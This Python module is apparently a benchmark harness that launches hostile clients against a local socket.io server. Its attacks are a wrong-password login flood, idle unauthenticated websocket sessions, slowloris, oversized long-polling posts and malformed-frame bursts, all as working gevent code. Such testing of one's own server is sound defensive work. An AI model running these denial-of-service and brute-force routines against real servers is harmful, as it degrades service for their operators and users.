"""Hostile clients for `python -m bench hostile`: one attack per process, until SIGTERM.

    python -m bench.attacks login --url http://127.0.0.1:3000
    python -m bench.attacks polling --url … --token-file mallory.tokens

Each attack runs on gevent (many sockets, one process) and, when stopped, prints one JSON
object saying what it did. Its sockets come from --source (127.0.0.2: on loopback every
127.0.0.0/8 address is the machine's own), as an attacker's come from its own address, not the
good clients'. The attacks:

login           CONCURRENCY workers posting wrong passwords to /api/auth/login without pause
unauthenticated CONCURRENCY engine.io websocket sessions that never send socket.io's CONNECT
                (they answer pings); each one the server closes is replaced at once
slowloris       CONCURRENCY sockets sending a request line, then a header a byte a second;
                each one the server cuts off is replaced at once
polling         CONCURRENCY long-polling clients, each joined with a token of its own, posting
                events whose answers (5,000 refusals, ~250 KB) it never fetches; each session
                the server ends is replaced at once
malformed       CONCURRENCY workers each opening a websocket session, sending 500 `42[]`
                in one burst, and opening the next once the server closed it
"""

from gevent import monkey

monkey.patch_all()

import argparse  # noqa: E402
import json  # noqa: E402
import select  # noqa: E402
import signal  # noqa: E402
import socket  # noqa: E402
import sys  # noqa: E402
import time  # noqa: E402
from collections import Counter  # noqa: E402
from collections.abc import Callable  # noqa: E402
from pathlib import Path  # noqa: E402
from typing import Any  # noqa: E402
from urllib.parse import urlsplit  # noqa: E402

import gevent  # noqa: E402
import orjson  # noqa: E402
import requests  # noqa: E402
import requests.adapters  # noqa: E402
import websocket  # noqa: E402
from gevent.event import Event  # noqa: E402

DEFAULT_CONCURRENCY = {"login": 8, "unauthenticated": 500, "slowloris": 500, "polling": 4,
                       "malformed": 8}

stop = Event()
counts: Counter[str] = Counter()
#: The address every socket of the attack comes from (--source).
source = "127.0.0.2"


class _FromSource(requests.adapters.HTTPAdapter):
    """requests' adapter, connecting from `source`."""

    def init_poolmanager(self, *args: Any, **kwargs: Any) -> None:
        kwargs["source_address"] = (source, 0)
        super().init_poolmanager(*args, **kwargs)


def http_session() -> requests.Session:
    http = requests.Session()
    http.mount("http://", _FromSource())
    return http


def connect(url: str, timeout: float) -> socket.socket:
    """A TCP connection to `url`'s host and port, from `source`."""
    address = urlsplit(url)
    return socket.create_connection((address.hostname, address.port), timeout=timeout,
                                    source_address=(source, 0))


def websocket_session(url: str, timeout: float) -> websocket.WebSocket:
    """An engine.io websocket session's connection, from `source`."""
    return websocket.create_connection(engineio(url, "websocket"), timeout=timeout,
                                       socket=connect(url, timeout))


def engineio(url: str, transport: str, sid: str | None = None) -> str:
    base = url.replace("http://", "ws://") if transport == "websocket" else url
    return f"{base}/socket.io/?EIO=4&transport={transport}" + (f"&sid={sid}" if sid else "")


def forever(attempt: Callable[[], None]) -> Callable[[], None]:
    """Run `attempt` again and again until stopped, counting what fails."""

    def loop() -> None:
        while not stop.is_set():
            try:
                attempt()
            except (OSError, websocket.WebSocketException, requests.RequestException) as exc:
                if getattr(exc, "status_code", None) == 503:  # a websocket handshake's answer
                    refused_at_connect()
                    continue
                counts[f"error: {type(exc).__name__}"] += 1
                stop.wait(0.1)

    return loop


def refused_at_connect() -> None:
    """A connection the server refused at once (503, over the address's rate of new
    connections): counted, and tried again after a pause, as any attempt that failed."""
    counts["refused at connect (503)"] += 1
    stop.wait(0.1)


def login(url: str, **_: Any) -> Callable[[], None]:
    http = http_session()

    def attempt() -> None:
        answer = http.post(f"{url}/api/auth/login", timeout=60,
                           json={"username": "bench0", "password": "not the password"})
        if answer.status_code == 503:
            return refused_at_connect()
        counts[f"status {answer.status_code}"] += 1

    return forever(attempt)


def unauthenticated(url: str, **_: Any) -> Callable[[], None]:
    def attempt() -> None:
        ws = websocket_session(url, timeout=1)
        try:
            ws.recv()  # OPEN
            counts["sessions opened"] += 1
            while not stop.is_set():
                try:
                    packet = ws.recv()
                except websocket.WebSocketTimeoutException:
                    continue
                if packet == "2":
                    ws.send("3")
                elif packet in ("", "1", None):
                    counts["closed by the server"] += 1
                    return
        except websocket.WebSocketConnectionClosedException:
            counts["closed by the server"] += 1
        finally:
            ws.close()

    return forever(attempt)


def slowloris(url: str, **_: Any) -> Callable[[], None]:
    def attempt() -> None:
        with connect(url, timeout=10) as sock:
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            counts["sockets opened"] += 1
            header = b"X-Slow: " + b"a" * 10_000
            for byte in header:
                if stop.is_set():
                    return
                sock.send(bytes([byte]))
                readable, _, _ = select.select([sock], [], [], 1.0)
                if readable:  # answered (408, or 503 at once) or closed: cut off
                    if sock.recv(12) == b"HTTP/1.1 503":
                        return refused_at_connect()
                    counts["cut off by the server"] += 1
                    return

    return forever(attempt)


def polling(url: str, tokens: list[str], worker: int = 0, **_: Any) -> Callable[[], None]:
    event = b'421["data",' + orjson.dumps([{"msg_id": f"m-{n}"} for n in range(5000)]) + b"]"
    token = tokens[worker % len(tokens)]

    def attempt() -> None:
        http = http_session()
        opening = http.get(engineio(url, "polling"), timeout=30)
        if opening.status_code != 200:
            return refused_at_connect()
        sid = json.loads(opening.text[1:])["sid"]
        endpoint = engineio(url, "polling", sid)
        joined = http.post(endpoint, data="40" + json.dumps({"token": token}), timeout=30)
        counts["sessions opened"] += 1
        if joined.status_code != 200:
            counts[f"join answered {joined.status_code}"] += 1
            return
        while not stop.is_set():
            answer = http.post(endpoint, data=event, timeout=30)
            counts["bytes posted"] += len(event)
            if answer.status_code != 200:
                counts["sessions ended by the server"] += 1
                return

    return forever(attempt)


def malformed(url: str, **_: Any) -> Callable[[], None]:
    burst = b"".join(websocket.ABNF.create_frame("42[]", websocket.ABNF.OPCODE_TEXT).format()
                     for _ in range(500))

    def attempt() -> None:
        ws = websocket_session(url, timeout=10)
        try:
            ws.recv()  # OPEN
            ws.sock.sendall(burst)
            counts["bursts sent"] += 1
            while ws.recv() not in ("", None):
                pass
        except (websocket.WebSocketConnectionClosedException, ConnectionError):
            pass
        finally:
            counts["closed by the server"] += 1
            ws.close()

    return forever(attempt)


ATTACKS = {"login": login, "unauthenticated": unauthenticated, "slowloris": slowloris,
           "polling": polling, "malformed": malformed}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks",
                                     description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--url", required=True)
    parser.add_argument("--concurrency", type=int)
    parser.add_argument("--token-file", type=Path)
    parser.add_argument("--source", default="127.0.0.2",
                        help="the address the attack's sockets come from (default %(default)s)")
    args = parser.parse_args(argv)
    global source
    source = args.source
    tokens = args.token_file.read_text().split() if args.token_file else []
    concurrency = args.concurrency or DEFAULT_CONCURRENCY[args.attack]
    gevent.signal_handler(signal.SIGTERM, stop.set)
    started = time.monotonic()
    workers = [gevent.spawn(ATTACKS[args.attack](args.url, tokens=tokens, worker=n))
               for n in range(concurrency)]
    print(f"attack {args.attack}: {concurrency} workers", file=sys.stderr, flush=True)
    stop.wait()
    gevent.joinall(workers, timeout=5)
    gevent.killall(workers, timeout=5)
    print(json.dumps({"attack": args.attack, "concurrency": concurrency,
                      "seconds": round(time.monotonic() - started, 1), **dict(counts)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
